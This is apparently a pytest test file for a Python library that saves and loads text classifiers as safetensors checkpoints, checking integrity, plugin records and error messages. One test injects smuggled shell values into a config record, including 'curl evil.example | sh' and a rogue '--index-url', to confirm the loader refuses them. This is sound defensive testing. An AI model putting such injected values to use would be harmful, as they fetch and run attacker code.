"""Saved classifiers: strict, checked, and readable without any of our code but `import zoo`."""

import json
import os
import shutil

import pytest
import torch
from safetensors import SafetensorError
from safetensors.torch import load_file, save_file

import zoo
from zoo.checkpoints import only_device
from zoo.errors import CheckpointError
from zoo.fingerprint import source_sha256

TEXTS = ["가 나 다", "라", "마 바 사 아 자 차 카 타 파 하"]


@pytest.fixture(scope="module")
def classifier(tiny_bert):
    return zoo.build(f"hf:{tiny_bert}", "bilstm", labels=["아니오", "예"], seed=0)


@pytest.fixture
def saved(classifier, tmp_path):
    folder = tmp_path / "saved"
    classifier.save_pretrained(folder)
    return folder


def refusal(folder, **options):
    with pytest.raises(CheckpointError) as error:
        zoo.TextClassifier.from_pretrained(folder, **options)
    return str(error.value)


def rewrite_weights(folder, change):
    weights = load_file(folder / "model.safetensors")
    change(weights)
    save_file(weights, folder / "model.safetensors", {"format": "pt"})
    (folder / "SHA256SUMS").unlink()


def rewrite_config(folder, change):
    file = folder / "config.json"
    values = json.loads(file.read_text("utf-8"))
    change(values)
    file.write_text(json.dumps(values), "utf-8")


def test_a_loaded_classifier_is_the_saved_one(classifier, saved):
    loaded = zoo.load(saved)
    assert loaded.predict(TEXTS) == classifier.predict(TEXTS)
    assert loaded.labels == ("아니오", "예")
    assert not loaded.training


def test_only_safetensors_and_json_are_written(saved):
    assert sorted(file.name for file in saved.iterdir()) == [
        "SHA256SUMS",
        "config.json",
        "model.safetensors",
        "tokenizer.json",
        "tokenizer_config.json",
    ]


def test_checksums_are_what_sha256sum_reads(saved):
    import hashlib

    digest = hashlib.sha256((saved / "model.safetensors").read_bytes()).hexdigest()
    assert (saved / "SHA256SUMS").read_text() == f"{digest}  model.safetensors\n"


def test_saving_and_loading_are_silent(classifier, tmp_path, capfd):
    classifier.save_pretrained(tmp_path)
    zoo.load(tmp_path)
    assert capfd.readouterr() == ("", "")


def test_a_file_in_the_place_of_the_folder_is_refused(classifier, tmp_path):
    (tmp_path / "taken").write_text("mine")
    with pytest.raises(CheckpointError) as error:
        classifier.save_pretrained(tmp_path / "taken")
    assert str(error.value) == (
        f"{tmp_path / 'taken'} is a file; name a folder to save the classifier in"
    )
    assert (tmp_path / "taken").read_text() == "mine"


def test_a_folder_that_cannot_be_made_is_told_with_the_cause(classifier, tmp_path):
    (tmp_path / "taken").write_text("mine")
    with pytest.raises(CheckpointError) as error:
        classifier.save_pretrained(tmp_path / "taken" / "inner")
    assert str(error.value) == (
        f"the classifier cannot be saved in {tmp_path / 'taken' / 'inner'}: Not a directory; mend "
        "that, or name another folder"
    )


def test_a_full_disk_is_told_with_the_cause(classifier, tmp_path, monkeypatch):
    def refuse(*_, **__):
        raise SafetensorError("Error while serializing: I/O error: No space left on device")

    monkeypatch.setattr("transformers.PreTrainedModel.save_pretrained", refuse)
    with pytest.raises(CheckpointError, match=r"saved in .*: Error .*No space left on device; "):
        classifier.save_pretrained(tmp_path)


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_saved_files_have_the_mode_of_the_umask(classifier, tmp_path, umask):
    before = os.umask(umask)
    try:
        classifier.save_pretrained(tmp_path)
        assert os.umask(umask) == umask
    finally:
        os.umask(before)
    modes = {file.name: file.stat().st_mode & 0o777 for file in tmp_path.iterdir()}
    assert set(modes.values()) == {0o666 & ~umask}, modes


def test_loading_leaves_the_global_generator_alone(saved):
    torch.manual_seed(1)
    undisturbed = torch.rand(1)
    torch.manual_seed(1)
    zoo.load(saved)
    assert torch.rand(1) == undisturbed


def test_shards_are_put_together(classifier, tmp_path):
    classifier.save_pretrained(tmp_path, max_shard_size="50KB")
    assert len(list(tmp_path.glob("*.safetensors"))) > 1
    assert zoo.load(tmp_path).predict(TEXTS) == classifier.predict(TEXTS)


def test_a_missing_shard_is_an_error(classifier, tmp_path):
    classifier.save_pretrained(tmp_path, max_shard_size="50KB")
    shard = min(tmp_path.glob("*.safetensors"))
    shard.unlink()
    assert refusal(tmp_path) == f"{tmp_path}: {shard.name} is missing, which its index names"


def test_a_broken_index_is_an_error(classifier, tmp_path):
    classifier.save_pretrained(tmp_path, max_shard_size="50KB")
    index = tmp_path / "model.safetensors.index.json"
    index.write_text("{}")
    assert refusal(tmp_path) == f"{index}: this is no index of weights ('weight_map')"


@pytest.mark.parametrize("content", ["", "{", "[]", "\udcff"])
def test_a_broken_configuration_is_an_error(saved, content):
    (saved / "config.json").write_text(content, "utf-8", "surrogateescape")
    assert refusal(saved).startswith(f"{saved}: no saved classifier is there (")


def test_saving_again_leaves_no_checksum_of_shards_behind(classifier, tmp_path):
    classifier.save_pretrained(tmp_path, max_shard_size="50KB")
    classifier.save_pretrained(tmp_path)
    assert zoo.load(tmp_path).predict(TEXTS) == classifier.predict(TEXTS)


def test_half_precision_stays_half_precision(saved, tmp_path):
    half = zoo.load(saved, dtype="bfloat16")
    assert half.dtype == torch.bfloat16
    half.save_pretrained(tmp_path / "half")
    assert zoo.load(tmp_path / "half").dtype == torch.bfloat16
    assert zoo.load(tmp_path / "half", dtype=torch.float32).dtype == torch.float32


@pytest.mark.parametrize("dtype", ["bfloat17", "int64", 3])
def test_a_type_that_is_none_is_refused(saved, dtype):
    expected = f"dtype must be a floating-point type of torch, got {dtype!r}"
    assert refusal(saved, dtype=dtype) == expected


def test_max_length_is_kept(classifier, saved):
    rewrite_config(saved, lambda values: values.update(max_length=3))
    loaded = zoo.load(saved)
    assert loaded.predict("가 나 다") == loaded.predict("가 라 마")


def test_one_flipped_byte_is_noticed(saved):
    file = saved / "model.safetensors"
    content = bytearray(file.read_bytes())
    content[-5] ^= 1
    file.write_bytes(content)
    assert refusal(saved) == (
        f"{file}: its sha256 is not the one in SHA256SUMS: the file was changed or damaged after it "
        "was saved; copy it again"
    )


def test_a_damaged_list_of_checksums_is_named(saved):
    sums = saved / "SHA256SUMS"
    sums.write_bytes(b"\xff" + sums.read_bytes())
    assert refusal(saved).startswith(f"{sums} cannot be read (")


def test_truncated_weights_are_named(saved):
    file = saved / "model.safetensors"
    file.write_bytes(file.read_bytes()[:-100])
    (saved / "SHA256SUMS").unlink()
    assert refusal(saved).startswith(f"{file}: truncated or no safetensors file (")


def test_absent_weights_are_named(saved):
    (saved / "model.safetensors").unlink()
    assert refusal(saved) == (
        f"{saved}: neither model.safetensors nor model.safetensors.index.json is there; zoo reads "
        "safetensors only"
    )


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        (lambda weights: weights.pop("head.output.bias"), "head.output.bias is missing"),
        (
            lambda weights: weights.update({"head.extra": torch.zeros(1)}),
            "head.extra is not part of it",
        ),
        (
            lambda weights: weights.update({"head.output.bias": torch.zeros(3)}),
            "head.output.bias has shape (3,), not (2,)",
        ),
    ],
)
def test_weights_that_do_not_fit_are_refused(saved, change, fault):
    rewrite_weights(saved, change)
    assert refusal(saved) == (
        f"{saved}: 1 weights do not fit the classifier that its config.json describes (first: "
        f"{fault}); nothing was loaded"
    )


def test_a_random_head_on_trained_weights_is_refused(saved):
    assert refusal(saved, ignore_mismatched_sizes=True) == (
        f"{saved}: ignore_mismatched_sizes would leave weights random that were trained; for other "
        "labels, build and train a new classifier"
    )


def test_a_checkpoint_of_something_else_is_refused_with_what_helps(tiny_bert):
    assert refusal(tiny_bert) == (
        f"{tiny_bert}: this is a 'bert' checkpoint, not a classifier saved by zoo; to put a head on "
        f"it: zoo.build('hf:{tiny_bert}', HEAD, labels=[…])"
    )


def test_a_folder_that_is_not_there_is_refused():
    assert refusal("./nowhere") == "./nowhere is no folder, and no hub id (OWNER/NAME)"


def test_an_empty_folder_is_refused(tmp_path):
    assert refusal(tmp_path) == (
        f"{tmp_path}: no saved classifier is there (config.json is missing)"
    )


def test_a_missing_tokenizer_is_refused(saved):
    (saved / "tokenizer.json").unlink()
    (saved / "tokenizer_config.json").unlink()
    assert refusal(saved).startswith(f"{saved}: its tokenizer cannot be read (")


def test_a_record_with_a_hole_is_refused(saved):
    rewrite_config(saved, lambda values: values["head"].pop("target"))
    assert refusal(saved) == "config.json: the record of the head lacks 'target'"


def test_a_missing_plugin_is_named_with_the_line_that_installs_it(saved):
    record = {"distribution": "zoo-crf", "version": "1.2", "name": "crf"}
    rewrite_config(saved, lambda values: values["head"].update(record))
    assert refusal(saved).startswith(
        "head 'crf' comes from the plugin zoo-crf 1.2, which is not available here: pip install "
        "'zoo-crf==1.2'\n"
    )


def test_another_version_of_a_plugin_is_a_warning(saved):
    rewrite_config(saved, lambda values: values["head"].update(version="9.9"))
    with pytest.warns(UserWarning) as warned:
        zoo.load(saved)
    assert [str(one.message) for one in warned] == [
        f"head 'bilstm' was saved with intentzoo 9.9; {zoo.__version__} is installed"
    ]


def test_another_source_of_the_same_version_is_a_warning(saved):
    rewrite_config(saved, lambda values: values["head"].update(source_sha256="0" * 64))
    with pytest.warns(UserWarning) as warned:
        zoo.load(saved)
    assert [str(one.message) for one in warned] == [
        f"head 'bilstm' was saved with intentzoo {zoo.__version__}, whose source has changed since"
    ]


@pytest.mark.parametrize(
    "change",
    [
        lambda record: record.pop("source_sha256"),
        lambda record: record.update(source_sha256=None),
    ],
)
def test_a_record_without_a_hash_says_nothing(saved, change):
    rewrite_config(saved, lambda values: change(values["head"]))
    zoo.load(saved)


@pytest.mark.parametrize("change", [{"version": "9.9"}, {"source_sha256": "0" * 64}])
def test_saving_again_names_what_it_runs_on_now(saved, classifier, tmp_path, change):
    rewrite_config(saved, lambda values: values["head"].update(change))
    with pytest.warns(UserWarning):
        loaded = zoo.load(saved)
    loaded.save_pretrained(tmp_path / "again")
    assert zoo.load(tmp_path / "again").config.head == classifier.config.head


def test_both_components_are_saved_with_all_that_finds_them_again(saved):
    values = json.loads((saved / "config.json").read_text("utf-8"))
    for kind, target in (
        ("encoder", "zoo.transformers_encoder:TransformersEncoder"),
        ("head", "zoo_heads.bilstm:BiLSTM"),
    ):
        record = values[kind]
        assert (record["distribution"], record["version"]) == ("intentzoo", zoo.__version__)
        assert (record["target"], record["options"]) == (target, {})
        assert record["source_sha256"] == source_sha256(target)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("distribution", "zoo-crf'; curl evil.example | sh; '"),
        ("version", "1.0' --index-url evil.example '"),
        ("name", 3),
        ("target", "os.system"),
        ("options", [1]),
    ],
)
def test_a_record_that_is_none_is_refused_and_never_becomes_a_command(saved, key, value):
    rewrite_config(saved, lambda values: values["head"].update({key: value}))
    assert refusal(saved) == (
        f"config.json: the record of the head has {value!r} where its {key} is due"
    )


MAIN = """
import torch, zoo
from zoo.errors import CheckpointError

class Mine(torch.nn.Module):
    def __init__(self, hidden_size, num_labels):
        super().__init__()
        self.output = torch.nn.Linear(hidden_size, num_labels)

    def forward(self, hidden, attention_mask):
        return self.output(hidden[:, 0])

def swapped():
    classifier = zoo.build({encoder!r}, "linear", num_labels=2)
    classifier.head = Mine(16, 2)
    return classifier

for classifier in (zoo.build({encoder!r}, "mine", num_labels=2), swapped()):
    try:
        classifier.save_pretrained({folder!r})
    except CheckpointError as error:
        print(error)
"""


@pytest.mark.slow
def test_a_component_of_main_is_refused_before_anything_is_written(
    write_distribution, tiny_bert, run_python, site, tmp_path
):
    manifest = (
        "import zoo\n\n@zoo.hookimpl\ndef zoo_heads():\n"
        "    yield zoo.HeadSpec(name='mine', target='__main__:Mine', description='-')\n"
    )
    write_distribution("zoo-mine", modules={"zoo_mine.py": manifest})
    folder = tmp_path / "saved"
    script = MAIN.format(encoder=f"hf:{tiny_bert}", folder=str(folder))
    finished = run_python(script, PYTHONPATH=str(site))
    assert finished.stdout == 2 * (
        "the head Mine is defined in __main__, a script or a notebook, where no other process finds "
        "it: move its class into a module, name it in a plugin (`zoo new head NAME` begins one), "
        "and build again\n"
    ), finished.stderr
    assert not folder.exists()


class Other(torch.nn.Linear):
    """Any module of a test."""


def test_a_component_that_was_put_in_the_place_of_another_is_refused(make_classifier, tmp_path):
    classifier = make_classifier("linear")
    classifier.head = Other(16, 2)
    with pytest.raises(CheckpointError) as error:
        classifier.save_pretrained(tmp_path / "saved")
    assert str(error.value) == (
        f"the head is a {Other.__module__}:Other, but the classifier was built with 'linear', which "
        "is zoo_heads.linear:Linear: name its class in a plugin, and build with that name"
    )
    assert not (tmp_path / "saved").exists()


def test_an_option_that_json_cannot_hold_is_refused(make_classifier, tmp_path):
    classifier = make_classifier("mlp")
    classifier.config.head["options"]["dropout"] = torch.float32
    with pytest.raises(CheckpointError) as error:
        classifier.save_pretrained(tmp_path / "saved")
    assert str(error.value) == (
        "head 'mlp': its option dropout is torch.float32, which no JSON can hold; let the class "
        "take text or numbers for it"
    )


def test_uploading_halfway_through_saving_is_refused(classifier, tmp_path):
    with pytest.raises(CheckpointError) as error:
        classifier.save_pretrained(tmp_path / "saved", push_to_hub=True)
    assert str(error.value) == (
        "save_pretrained(push_to_hub=True) would upload before the tokenizer is saved; call "
        "classifier.push_to_hub('OWNER/NAME') instead"
    )


def test_one_device_is_enough():
    assert only_device({"": "cpu"}) == only_device("cpu") == torch.device("cpu")
    with pytest.raises(CheckpointError) as error:
        only_device({"encoder": "cpu", "head": "meta"})
    assert str(error.value) == (
        "device_map must name one device, got {'encoder': 'cpu', 'head': 'meta'}"
    )
    with pytest.raises(CheckpointError, match=r"such as 'cpu' or 'cuda:0', got 'balanced'$"):
        only_device("balanced")


HEAD = """
import torch

class Mean(torch.nn.Module):
    def __init__(self, hidden_size, num_labels, *, scale: float = 1.0):
        super().__init__()
        self.scale = scale
        self.output = torch.nn.Linear(hidden_size, num_labels)

    def forward(self, hidden, attention_mask):
        weights = attention_mask.unsqueeze(-1) / attention_mask.sum(1)[:, None, None]
        return self.output(self.scale * (hidden * weights).sum(1))
"""


def test_a_head_of_a_plugin_is_found_again_by_its_distribution(
    write_distribution, fresh_host, tiny_bert, tmp_path
):
    manifest = (
        "import zoo\n\n@zoo.hookimpl\ndef zoo_heads():\n"
        "    yield zoo.HeadSpec(name='mean', target='zoo_mean_parts:Mean', description='-')\n"
    )
    modules = {"zoo_mean.py": manifest, "zoo_mean_parts.py": HEAD}
    info = write_distribution("zoo-mean", modules=modules, entry_points={"mean": "zoo_mean"})
    fresh_host()
    head_options = {"scale": 3.0}
    classifier = zoo.build(f"hf:{tiny_bert}", "mean", num_labels=2, head_options=head_options)
    classifier.save_pretrained(tmp_path / "saved")
    assert zoo.load(tmp_path / "saved").predict(TEXTS) == classifier.predict(TEXTS)

    shutil.rmtree(info)
    fresh_host()
    assert "pip install 'zoo-mean==1.0'" in refusal(tmp_path / "saved")


@pytest.mark.parametrize(
    ("blocked", "source", "fate"),
    [
        ("", "import nobody_has_this", "was left out: No module named 'nobody_has_this'"),
        ("zoo-crf", "", "is blocked"),
    ],
)
def test_a_plugin_that_is_here_but_not_loaded_is_not_to_be_installed_again(
    saved, write_distribution, fresh_host, monkeypatch, blocked, source, fate
):
    record = {"distribution": "zoo-crf", "version": "1.2", "name": "crf"}
    rewrite_config(saved, lambda values: values["head"].update(record))
    write_distribution("zoo-crf", "1.2", modules={"zoo_crf.py": source})
    monkeypatch.setenv("ZOO_BLOCK", blocked)
    fresh_host()
    assert refusal(saved) == (
        f"head 'crf' comes from the plugin zoo-crf 1.2, which {fate}; see `zoo plugins`"
    )


ENCODERS = """
import zoo

@zoo.hookimpl
def zoo_encoders():
    yield zoo.EncoderSpec(
        name="toy", target="toy_parts:Any", description="-", takes_checkpoint=True
    )
    yield zoo.EncoderSpec(
        name="toy-small", target="toy_parts:Small", description="-", checkpoint={checkpoint!r}
    )
"""
ENCODER_PARTS = """
from zoo.transformers_encoder import TransformersEncoder

class Any(TransformersEncoder):
    pass

class Small(TransformersEncoder):
    pass
"""


@pytest.mark.parametrize("name", ["toy-small", "toy:{checkpoint}"])
def test_a_distribution_may_be_called_like_its_encoder_that_takes_a_checkpoint(
    write_distribution, fresh_host, tiny_bert, tmp_path, name
):
    checkpoint = str(tiny_bert)
    modules = {"toy.py": ENCODERS.format(checkpoint=checkpoint), "toy_parts.py": ENCODER_PARTS}
    write_distribution("toy", modules=modules)
    fresh_host()
    classifier = zoo.build(name.format(checkpoint=checkpoint), "linear", num_labels=2)
    classifier.save_pretrained(tmp_path)
    loaded = zoo.load(tmp_path)
    assert type(loaded.encoder) is type(classifier.encoder)
    assert loaded.config.encoder == classifier.config.encoder


PARAMETRIZED = """
import torch
from torch.nn.utils.parametrizations import orthogonal

class Own(torch.nn.Module):
    def __init__(self, hidden_size, num_labels):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.randn(num_labels, hidden_size))
        orthogonal(self, "weight")

    def forward(self, hidden, attention_mask):
        return hidden[:, 0] @ self.weight.T
"""


def test_a_head_may_parametrize_its_own_weights(
    write_distribution, fresh_host, tiny_bert, tmp_path
):
    manifest = (
        "import zoo\n\n@zoo.hookimpl\ndef zoo_heads():\n"
        "    yield zoo.HeadSpec(name='own', target='zoo_own_parts:Own', description='-')\n"
    )
    write_distribution(
        "zoo-own", modules={"zoo_own.py": manifest, "zoo_own_parts.py": PARAMETRIZED}
    )
    fresh_host()
    classifier = zoo.build(f"hf:{tiny_bert}", "own", num_labels=2)
    classifier.save_pretrained(tmp_path)
    assert zoo.load(tmp_path).predict(TEXTS) == classifier.predict(TEXTS)


FRESH = """
import json, sys
{imports}
from transformers import AutoConfig, AutoModelForSequenceClassification, AutoTokenizer, pipeline

folder, texts = sys.argv[1], json.loads(sys.argv[2])
model = AutoModelForSequenceClassification.from_pretrained(folder)
tokenizer = AutoTokenizer.from_pretrained(folder)
logits = model(**tokenizer(texts, padding=True, return_tensors="pt")).logits
answers = pipeline("text-classification", model=folder)(texts, top_k=None)
print(json.dumps({{
    "type": type(AutoConfig.from_pretrained(folder)).__name__,
    "logits": logits.tolist(),
    "predictions": [one.scores for one in zoo.load(folder).predict(texts)],
    "pipeline": [{{one["label"]: one["score"] for one in answer}} for answer in answers],
}}))
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    "imports", ["import zoo, transformers", "import transformers.models.auto.modeling_auto, zoo"]
)
def test_transformers_reads_it_in_a_fresh_process(classifier, saved, run_python, imports):
    script = f"import sys; sys.argv[1:] = {[str(saved), json.dumps(TEXTS)]!r}\n"
    # of transformers' pipeline, about itself
    finished = run_python(script + FRESH.format(imports=imports), PYTHONWARNINGS="default")
    assert finished.returncode == 0, finished.stderr
    found = json.loads(finished.stdout)
    batch = classifier.tokenizer(TEXTS, padding=True, return_tensors="pt")
    assert found["type"] == "ClassifierConfig"
    torch.testing.assert_close(torch.tensor(found["logits"]), classifier(**batch).logits)
    for prediction, ours, theirs in zip(
        classifier.predict(TEXTS), found["predictions"], found["pipeline"], strict=True
    ):
        assert ours == pytest.approx(prediction.scores, abs=1e-5)
        assert theirs == pytest.approx(prediction.scores, abs=1e-5)
